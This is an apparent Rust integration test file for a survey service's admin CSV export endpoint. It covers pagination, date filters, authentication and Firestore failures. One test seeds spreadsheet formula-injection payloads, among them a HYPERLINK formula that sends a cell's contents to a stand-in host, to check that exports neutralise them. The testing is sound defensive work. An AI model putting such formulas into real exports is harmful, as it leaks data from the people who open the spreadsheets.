//! `GET /admin/scenarios/{id}/answers.csv`: every answer, as Firestore holds
//! it, streamed a page at a time. Scenario: tests/fixtures/export (Asia/Kolkata).

use crate::helpers::events::{self, postback, text};
use crate::helpers::firestore_rest::{string_array, string_field};
use crate::helpers::tcp_proxy::TcpProxy;
use crate::helpers::{ADMIN_TOKEN, TestApp, TestOptions, spawn_app_with};
use chrono::{DateTime, SecondsFormat, TimeZone, Utc};
use line_survey::config::Config;
use serde_json::{Value, json};
use std::collections::HashMap;
use std::time::Duration;

const ZONE: chrono_tz::Tz = chrono_tz::Asia::Kolkata;
const HEADER: [&str; 9] = [
    "user_id",
    "node",
    "value",
    "choice_label",
    "tags",
    "scenario_version",
    "answered_at",
    "variant",
    "first_source",
];

pub fn export_scenarios(config: &mut Config) {
    config.scenarios_dir = crate::helpers::repo_path("tests/fixtures/export");
}

async fn app() -> TestApp {
    spawn_app_with(TestOptions {
        adjust: export_scenarios,
        ..TestOptions::default()
    })
    .await
}

fn label(node: &str, value: &str) -> &'static str {
    match (node, value) {
        ("rating", "good") => "とても良い",
        ("rating", "bad") => "Bad, really",
        _ => "",
    }
}

/// OWASP's rule, written apart from the service's: a text cell whose first
/// character after NFKC is `=`, `+`, `-`, `@`, a tab or a carriage return
/// gets a leading `'`.
fn defused(text: String) -> String {
    use unicode_normalization::UnicodeNormalization;
    match text.nfkc().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{text}"),
        _ => text,
    }
}

/// What a stored answer's row must be in the default (defused) download, read
/// from its REST document.
pub(crate) fn expected_row(document: &Value) -> Vec<String> {
    row_of(document, false)
}

/// The row as `?raw=true` writes it: every value as stored.
fn expected_raw_row(document: &Value) -> Vec<String> {
    row_of(document, true)
}

fn row_of(document: &Value, raw: bool) -> Vec<String> {
    let text = |text: String| if raw { text } else { defused(text) };
    let fields = &document["fields"];
    let node = string_field(document, "nodeId").unwrap();
    let stored = match &fields["value"] {
        Value::Null => String::new(),
        value => value["stringValue"]
            .as_str()
            .map(str::to_owned)
            .or_else(|| value["integerValue"].as_str().map(str::to_owned))
            .or_else(|| value["doubleValue"].as_f64().map(|v| v.to_string()))
            .unwrap(),
    };
    // Numbers stay numbers (a negative one is not prefixed).
    let value = if fields["value"]["stringValue"].is_string() {
        text(stored.clone())
    } else {
        stored.clone()
    };
    let at = DateTime::parse_from_rfc3339(fields["answeredAt"]["timestampValue"].as_str().unwrap())
        .unwrap()
        .with_timezone(&ZONE)
        .to_rfc3339_opts(SecondsFormat::Millis, false);
    vec![
        text(string_field(document, "lineUserId").unwrap()),
        text(node.clone()),
        value,
        text(label(&node, &stored).to_owned()),
        text(string_array(document, "tags").join(";")),
        fields["scenarioVersion"]["integerValue"].as_str().unwrap().to_owned(),
        at,
        text(string_field(document, "variant").unwrap_or_default()),
        // No user of these tests came through a source link (source_results.rs
        // checks a first source in the CSV).
        String::new(),
    ]
}

struct Download {
    status: u16,
    headers: reqwest::header::HeaderMap,
    body: Vec<u8>,
}

async fn download(app: &TestApp, path_and_query: &str, token: Option<&str>) -> Download {
    let mut request = app.http.get(format!("{}{path_and_query}", app.address));
    if let Some(token) = token {
        request = request.bearer_auth(token);
    }
    let response = request.send().await.expect("service reachable");
    let status = response.status().as_u16();
    let headers = response.headers().clone();
    let body = response.bytes().await.expect("the whole body arrives").to_vec();
    Download { status, headers, body }
}

/// The rows of an admin CSV route's download (`path` and query), BOM and
/// header checked.
pub(crate) async fn admin_csv_rows(app: &TestApp, path_and_query: &str) -> Vec<Vec<String>> {
    let csv = download(app, path_and_query, Some(ADMIN_TOKEN)).await;
    assert_eq!(csv.status, 200, "{path_and_query}");
    csv_rows(&csv.body)
}

/// The rows after the BOM and the header (which are checked).
pub(crate) fn csv_rows(body: &[u8]) -> Vec<Vec<String>> {
    assert_eq!(&body[..3], b"\xEF\xBB\xBF", "UTF-8 byte order mark first");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&body[3..]);
    let mut records = reader.records().map(|record| {
        record
            .expect("valid CSV")
            .iter()
            .map(str::to_owned)
            .collect::<Vec<String>>()
    });
    assert_eq!(records.next().expect("a header row"), HEADER);
    records.collect()
}

fn sorted(mut rows: Vec<Vec<String>>) -> Vec<Vec<String>> {
    rows.sort();
    rows
}

const COMMENT: &str = "Great, \"really\" good\nSecond line: 日本語のコメント、ありがとう";

#[tokio::test]
async fn answers_recorded_through_the_webhook_download_as_they_are_stored() {
    let app = app().await;
    let (first, second) = (events::new_user(), events::new_user());
    app.deliver(&text(&first, "export")).await;
    let good = events::answer_data("export", "rating", "good");
    app.deliver(&postback(&first, &good)).await;
    // A double tap and a change of mind: guard 1 keeps the first answer.
    app.deliver(&postback(&first, &good)).await;
    app.deliver(&postback(&first, &events::answer_data("export", "rating", "bad")))
        .await;
    app.deliver(&text(&first, COMMENT)).await;
    app.deliver(&postback(&second, &events::answer_data("export", "rating", "bad")))
        .await;

    let stored = app.firestore.list("survey_responses").await;
    assert_eq!(
        stored.len(),
        3,
        "two of the first user's answers and one of the second's"
    );
    let download = download(&app, "/admin/scenarios/export/answers.csv", Some(ADMIN_TOKEN)).await;

    assert_eq!(download.status, 200);
    assert_eq!(download.headers["content-type"], "text/csv; charset=utf-8");
    assert_eq!(
        download.headers["content-disposition"],
        "attachment; filename=\"answers-export.csv\""
    );
    let rows = csv_rows(&download.body);
    assert_eq!(sorted(rows.clone()), sorted(stored.iter().map(expected_row).collect()));
    let comment = rows.iter().find(|row| row[1] == "comment").expect("the typed answer");
    assert_eq!(comment[0], first);
    assert_eq!(comment[2], COMMENT, "commas, quotes, a newline and Japanese round-trip");
    assert_eq!(comment[3], "", "a typed answer has no choice label");
    let ratings: HashMap<&str, &Vec<String>> = rows
        .iter()
        .filter(|row| row[1] == "rating")
        .map(|row| (row[0].as_str(), row))
        .collect();
    assert_eq!(ratings[first.as_str()][2], "good");
    assert_eq!(ratings[first.as_str()][3], "とても良い");
    assert_eq!(ratings[second.as_str()][3], "Bad, really");
    assert_eq!(ratings[second.as_str()][4], "unhappy;follow up;answered:export");
    assert_eq!(ratings[second.as_str()][5], "4");
    assert!(
        ratings[second.as_str()][6].ends_with("+05:30"),
        "in the scenario's zone: {}",
        ratings[second.as_str()][6]
    );
}

/// `survey_responses` documents as REST fields, answered at `at`.
fn seeded_answer(scenario: &str, user: &str, node: &str, value: &str, at: DateTime<Utc>) -> (String, String, Value) {
    let id = format!("{:040x}", uuid::Uuid::new_v4().as_u128());
    let fields = json!({
        "scenarioId": {"stringValue": scenario},
        "nodeId": {"stringValue": node},
        "lineUserId": {"stringValue": user},
        "value": {"stringValue": value},
        "valueType": {"stringValue": if node == "rating" { "choice" } else { "text" }},
        "tags": {"arrayValue": {"values": [{"stringValue": "seeded"}, {"stringValue": "タグ"}]}},
        "scenarioVersion": {"integerValue": "3"},
        "answeredAt": {"timestampValue": at.to_rfc3339_opts(SecondsFormat::Micros, true)},
        "webhookEventId": {"stringValue": events::new_event_id()},
    });
    ("survey_responses".to_owned(), id, fields)
}

/// Typed answers a spreadsheet would run as formulas, in every form OWASP's
/// rule names: the default download (and the console's) defuses them with a
/// leading `'`; `?raw=true` keeps them exact; number answers, negative ones
/// included, stay numbers.
#[tokio::test]
async fn formula_like_answers_are_defused_unless_raw_is_asked() {
    let app = app().await;
    let formulas = [
        "=HYPERLINK(\"https://x.example/?\"&A2,\"open\")",
        "+1+1",
        "-1+1",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
    ];
    let mut seeded = Vec::new();
    for formula in formulas {
        let user = events::new_user();
        seeded.push(seeded_answer("export", &user, "comment", formula, march_second()));
    }
    let (_, id, mut number) = seeded_answer("export", &events::new_user(), "comment", "", march_second());
    number["value"] = json!({"integerValue": "-5"});
    number["valueType"] = json!({"stringValue": "number"});
    seeded.push(("survey_responses".to_owned(), id, number));
    app.firestore.write_all(&seeded).await;
    let stored = app.firestore.list("survey_responses").await;
    assert_eq!(stored.len(), formulas.len() + 1);

    let safe = download(&app, "/admin/scenarios/export/answers.csv", Some(ADMIN_TOKEN)).await;
    assert_eq!(safe.status, 200);
    let rows = csv_rows(&safe.body);
    assert_eq!(sorted(rows.clone()), sorted(stored.iter().map(expected_row).collect()));
    for formula in formulas {
        assert!(
            rows.iter().any(|row| row[2] == format!("'{formula}")),
            "{formula:?} defused in {rows:?}"
        );
    }
    assert!(
        rows.iter().any(|row| row[2] == "-5"),
        "a negative number stays a number"
    );

    let raw = download(&app, "/admin/scenarios/export/answers.csv?raw=true", Some(ADMIN_TOKEN)).await;
    assert_eq!(raw.status, 200);
    let rows = csv_rows(&raw.body);
    assert_eq!(
        sorted(rows.clone()),
        sorted(stored.iter().map(expected_raw_row).collect())
    );
    for formula in formulas {
        assert!(
            rows.iter().any(|row| row[2] == formula),
            "{formula:?} exact with raw=true"
        );
    }
    let bad = download(&app, "/admin/scenarios/export/answers.csv?raw=maybe", Some(ADMIN_TOKEN)).await;
    assert_eq!(bad.status, 400, "raw is true or false");
    let no_token = download(&app, "/admin/scenarios/export/answers.csv?raw=true", None).await;
    assert_eq!(no_token.status, 401, "raw values need the admin token");
}

/// Local midnight of 2026-03-02 in the scenario's zone.
fn march_second() -> DateTime<Utc> {
    ZONE.with_ymd_and_hms(2026, 3, 2, 0, 0, 0).unwrap().with_timezone(&Utc)
}

#[tokio::test]
async fn more_answers_than_a_page_all_download_once_and_dates_select_local_days() {
    let app = app().await;
    let midnight = march_second();
    let mut documents = Vec::new();
    // 1,200 answers, 1 minute apart, from 10 hours before local midnight of
    // March 2nd: 600 on March 1st, 600 on March 2nd (local time).
    for i in 0..1200i64 {
        let at = midnight + chrono::Duration::minutes(i - 600);
        let value = if i % 3 == 0 { "good" } else { "bad" };
        let (node, value) = if i % 2 == 0 {
            ("rating", value.to_owned())
        } else {
            ("comment", format!("comment {i}, with \"quotes\"\nand a line"))
        };
        documents.push(seeded_answer("export", &format!("U{i:032x}"), node, &value, at));
    }
    // Another scenario's answers are not exported.
    for i in 0..5 {
        documents.push(seeded_answer(
            "lunch",
            &format!("U{i:032x}"),
            "ask_food",
            "good",
            midnight,
        ));
    }
    app.firestore.write_all(&documents).await;

    let all = download(&app, "/admin/scenarios/export/answers.csv", Some(ADMIN_TOKEN)).await;
    assert_eq!(all.status, 200);
    let rows = csv_rows(&all.body);
    assert_eq!(rows.len(), 1200);
    let stored: Vec<Value> = app
        .firestore
        .list("survey_responses")
        .await
        .into_iter()
        .filter(|document| string_field(document, "scenarioId").as_deref() == Some("export"))
        .collect();
    assert_eq!(stored.len(), 1200);
    assert_eq!(sorted(rows), sorted(stored.iter().map(expected_row).collect()));

    let second_day = download(
        &app,
        "/admin/scenarios/export/answers.csv?from=2026-03-02&to=2026-03-02",
        Some(ADMIN_TOKEN),
    )
    .await;
    assert_eq!(second_day.status, 200);
    assert_eq!(
        second_day.headers["content-disposition"],
        "attachment; filename=\"answers-export-from-2026-03-02-to-2026-03-02.csv\""
    );
    let second_day = csv_rows(&second_day.body);
    assert_eq!(second_day.len(), 600, "local midnight starts the day, inclusive");
    assert!(
        second_day.iter().all(|row| row[6].starts_with("2026-03-02T")),
        "{second_day:?}"
    );
    let until_first = csv_rows(
        &download(
            &app,
            "/admin/scenarios/export/answers.csv?to=2026-03-01",
            Some(ADMIN_TOKEN),
        )
        .await
        .body,
    );
    assert_eq!(until_first.len(), 600);
    assert_eq!(
        until_first.iter().map(|row| row[6].as_str()).max(),
        Some("2026-03-01T23:59:00.000+05:30")
    );
    let later = download(
        &app,
        "/admin/scenarios/export/answers.csv?from=2026-03-03",
        Some(ADMIN_TOKEN),
    )
    .await;
    assert_eq!(later.status, 200);
    assert!(csv_rows(&later.body).is_empty(), "an empty range is a header alone");
}

#[tokio::test]
async fn unknown_scenarios_bad_dates_and_missing_tokens_are_refused() {
    let app = app().await;
    let cases: [(&str, Option<&str>, u16); 9] = [
        ("/admin/scenarios/nope/answers.csv", Some(ADMIN_TOKEN), 404),
        (
            "/admin/scenarios/export/answers.csv?from=2026-13-01",
            Some(ADMIN_TOKEN),
            400,
        ),
        (
            "/admin/scenarios/export/answers.csv?to=yesterday",
            Some(ADMIN_TOKEN),
            400,
        ),
        (
            "/admin/scenarios/export/answers.csv?from=2026-02-30",
            Some(ADMIN_TOKEN),
            400,
        ),
        (
            "/admin/scenarios/export/answers.csv?from=2026-03-02&to=2026-03-01",
            Some(ADMIN_TOKEN),
            400,
        ),
        ("/admin/scenarios/export/answers.csv", None, 401),
        ("/admin/scenarios/export/answers.csv", Some("wrong"), 401),
        ("/admin/scenarios/nope/answers.csv", None, 401),
        (
            "/admin/scenarios/export/answers.csv?from=2026-03-01&to=2026-03-01",
            Some(ADMIN_TOKEN),
            200,
        ),
    ];
    for (path, token, status) in cases {
        let download = download(&app, path, token).await;
        assert_eq!(download.status, status, "{path} with {token:?}");
        if status != 200 {
            let body: Value = serde_json::from_slice(&download.body).expect("a JSON error");
            assert!(body["error"].is_string(), "{body}");
        }
    }
}

#[tokio::test]
async fn firestore_failing_mid_download_aborts_the_response() {
    let proxy = TcpProxy::start(crate::helpers::emulator_host()).await;
    let app = spawn_app_with(TestOptions {
        adjust: export_scenarios,
        firestore_host: Some(proxy.address.clone()),
        ..TestOptions::default()
    })
    .await;
    let documents: Vec<_> = (0..1200)
        .map(|i| seeded_answer("export", &format!("U{i:032x}"), "rating", "good", march_second()))
        .collect();
    app.firestore.write_all(&documents).await;

    // Slow answers, so the second page's query is still on its way when the
    // first page arrives; then Firestore becomes unreachable.
    proxy.set_latency(Duration::from_millis(300));
    let mut response = app
        .http
        .get(format!("{}/admin/scenarios/export/answers.csv", app.address))
        .bearer_auth(ADMIN_TOKEN)
        .send()
        .await
        .unwrap();
    assert_eq!(
        response.status(),
        200,
        "the first page was read before the answer began"
    );
    let mut received = response
        .chunk()
        .await
        .expect("the first page arrives")
        .unwrap()
        .to_vec();
    proxy.cut();
    let ended = loop {
        match response.chunk().await {
            Ok(Some(chunk)) => received.extend_from_slice(&chunk),
            Ok(None) => break Ok(()),
            Err(error) => break Err(error),
        }
    };
    assert!(ended.is_err(), "the body must end with an error, not look complete");
    let lines = received.iter().filter(|&&b| b == b'\n').count();
    assert!((1..1201).contains(&lines), "some rows arrived, not all: {lines} lines");
    proxy.restore();

    // Before the first byte, the same failure is a 503 with a JSON error.
    proxy.cut();
    let refused = download(&app, "/admin/scenarios/export/answers.csv", Some(ADMIN_TOKEN)).await;
    assert_eq!(refused.status, 503);
    let body: Value = serde_json::from_slice(&refused.body).unwrap();
    assert!(body["error"].as_str().unwrap().contains("Firestore"), "{body}");
}
